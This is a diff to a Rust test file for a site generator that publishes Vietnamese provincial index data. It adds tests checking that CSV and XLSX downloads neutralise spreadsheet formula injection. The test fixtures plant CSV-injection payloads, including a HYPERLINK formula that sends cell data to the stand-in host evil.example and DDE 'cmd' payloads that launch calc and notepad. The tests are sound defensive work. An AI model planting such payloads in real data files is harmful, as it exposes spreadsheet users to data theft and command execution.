@@ -6,6 +6,7 @@ use super::*;
 use calamine::{open_workbook_auto, Data, Reader};
 use chiso::compute::round_half_up;
 use rust_decimal::Decimal;
+use std::collections::HashSet;
 use std::str::FromStr;
 
 fn built(data: &str) -> (tempfile::TempDir, PathBuf) {
@@ -830,4 +831,189 @@ fn downloads_at_scale() {
         }
         format!("{} files, {} MB", downloads.len(), bytes / 1_000_000)
     });
+}
+
+/// A copy of the Hà Nam example whose names, criteria and notes start as
+/// formulas do, built. Returns the site and the texts planted.
+fn built_with_formula_text() -> (tempfile::TempDir, PathBuf, Vec<&'static str>) {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    copy_tree(&repo("examples/ha-nam-2022"), &data);
+    let planted = vec![
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Sở Nội vụ\")",
+        "+Sở Tài chính",
+        "-Sở Xây dựng",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "=1+1 Cải cách thể chế",
+        "-2 điểm: chưa ban hành kế hoạch",
+        "=cmd|' /C notepad'!'A1'",
+    ];
+    edit_file(&data.join("units.csv"), |t| {
+        t.replace(
+            "so-noi-vu,Sở Nội vụ,",
+            "so-noi-vu,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Sở Nội vụ\"\")\",",
+        )
+        .replace("so-tai-chinh,Sở Tài chính,", "so-tai-chinh,+Sở Tài chính,")
+        .replace("so-xay-dung,Sở Xây dựng,", "so-xay-dung,-Sở Xây dựng,")
+        .replace(
+            "thanh-tra-tinh,Thanh tra tỉnh,",
+            "thanh-tra-tinh,\"@SUM(1+1)*cmd|' /C calc'!A0\",",
+        )
+    });
+    let edition = data.join("editions/2022");
+    edit_file(&edition.join("framework-so-nganh.csv"), |t| {
+        t.replace("2,A,Cải cách thể chế,", "2,A,=1+1 Cải cách thể chế,")
+    });
+    edit_file(&edition.join("scores-so-nganh.csv"), |t| {
+        let mut lines = t.lines();
+        let mut out = format!("{},note,responsible\n", lines.next().unwrap());
+        for (i, line) in lines.enumerate() {
+            let extra = match i {
+                1 => ",-2 điểm: chưa ban hành kế hoạch,\"=cmd|' /C notepad'!'A1'\"",
+                _ => ",,",
+            };
+            out.push_str(line);
+            out.push_str(extra);
+            out.push('\n');
+        }
+        out
+    });
+    let out = dir.path().join("public");
+    build_site(&data, &out);
+    (dir, out, planted)
+}
+
+/// The first characters that make a spreadsheet read a cell as a formula.
+fn formula_start(field: &str) -> bool {
+    field.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Every CSV the site offers: the downloads, the charts' files and the
+/// charts' `data:` links.
+fn every_csv(out: &Path) -> Vec<(String, Vec<u8>)> {
+    use base64::Engine;
+    let mut csvs: Vec<(String, Vec<u8>)> = tree(out)
+        .into_iter()
+        .filter(|(p, _)| p.ends_with(".csv"))
+        .collect();
+    for (page, html) in html_pages(out) {
+        for (at, _) in html.match_indices("data:text/csv;charset=utf-8;base64,") {
+            let b64: String = html[at..]
+                .split_once(',')
+                .unwrap()
+                .1
+                .chars()
+                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
+                .collect();
+            let bytes = base64::engine::general_purpose::STANDARD
+                .decode(&b64)
+                .unwrap();
+            csvs.push((format!("{page} (data: link)"), bytes));
+        }
+    }
+    csvs
+}
+
+#[test]
+fn formula_text_in_csv_downloads_is_written_as_text() {
+    let (_dir, out, planted) = built_with_formula_text();
+    let csvs = every_csv(&out);
+    assert!(csvs.iter().any(|(p, _)| p.contains("data: link")));
+    let mut seen: HashSet<String> = HashSet::new();
+    for (path, bytes) in &csvs {
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&bytes[3..]);
+        for record in reader.records() {
+            for field in record.unwrap().iter() {
+                // A number may start with a sign: a spreadsheet reads it as
+                // the same number.
+                assert!(
+                    !formula_start(field) || Decimal::from_str(field).is_ok(),
+                    "{path}: a spreadsheet would run {field:?}"
+                );
+                if let Some(text) = field.strip_prefix('\'') {
+                    seen.insert(text.to_string());
+                }
+            }
+        }
+    }
+    for text in &planted {
+        assert!(seen.contains(*text), "{text:?} is in no CSV as '{text}");
+    }
+    // OWASP's advice: such a cell also goes in quotes.
+    let units = std::fs::read_to_string(out.join("du-lieu/2022/don-vi.csv")).unwrap();
+    assert!(
+        units.contains(",\"'+Sở Tài chính\","),
+        "{}",
+        units
+            .lines()
+            .find(|l| l.contains("Tài chính"))
+            .unwrap_or("")
+    );
+    // The other formats keep the text as it is.
+    let json = std::fs::read_to_string(out.join("du-lieu/2022/chiso-2022.json")).unwrap();
+    assert!(json.contains("\"+Sở Tài chính\""));
+    // And the data dictionary, the Data page and the data package say so.
+    for page in [
+        "tu-dien-du-lieu.html",
+        "du-lieu.html",
+        "du-lieu/datapackage.json",
+    ] {
+        let text = std::fs::read_to_string(out.join(page)).unwrap();
+        assert!(text.contains("dấu nháy đơn"), "{page}");
+    }
+}
+
+#[test]
+fn negative_numbers_in_csv_downloads_stay_numbers() {
+    let (_dir, out) = built("data");
+    let (headers, rows) = read_csv(&out.join("du-lieu/tat-ca/ket-qua.csv"));
+    let change = column(&headers, "index_change");
+    let negative: Vec<&String> = rows
+        .iter()
+        .map(|r| &r[change])
+        .filter(|c| c.starts_with('-'))
+        .collect();
+    assert!(
+        !negative.is_empty(),
+        "the sample has units that lost ground"
+    );
+    for n in negative {
+        assert!(Decimal::from_str(n).is_ok(), "{n:?}");
+    }
+}
+
+#[test]
+fn formula_text_stays_a_string_cell_in_the_workbooks() {
+    let (_dir, out, planted) = built_with_formula_text();
+    for book in [
+        "du-lieu/2022/chiso-2022.xlsx",
+        "du-lieu/tat-ca/chiso-tat-ca.xlsx",
+    ] {
+        let mut workbook = open_workbook_auto(out.join(book)).unwrap();
+        let mut strings: HashSet<String> = HashSet::new();
+        for sheet in workbook.sheet_names() {
+            let formulas = workbook.worksheet_formula(&sheet).unwrap();
+            assert!(
+                formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+                "{book} {sheet}: a formula cell"
+            );
+            for cell in workbook.worksheet_range(&sheet).unwrap().used_cells() {
+                if let (_, _, Data::String(s)) = cell {
+                    strings.insert(s.clone());
+                }
+            }
+        }
+        // The detailed scores (and their notes) are not in the workbooks.
+        for text in planted
+            .iter()
+            .filter(|t| !t.starts_with("-2") && !t.starts_with("=cmd"))
+        {
+            assert!(
+                strings.contains(*text),
+                "{book}: {text:?} is not a text cell"
+            );
+        }
+    }
 }
